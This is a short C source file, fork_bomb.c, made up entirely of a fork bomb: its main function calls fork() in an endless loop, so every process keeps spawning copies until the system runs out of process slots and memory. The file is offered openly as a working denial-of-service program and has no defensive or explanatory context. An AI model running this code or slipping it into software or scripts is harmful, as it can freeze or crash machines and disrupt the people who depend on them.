/* fork_bomb.c - every process starts two more, for ever. */
#include <unistd.h>

int main(void)
{
    for (;;)
        (void)fork();
}
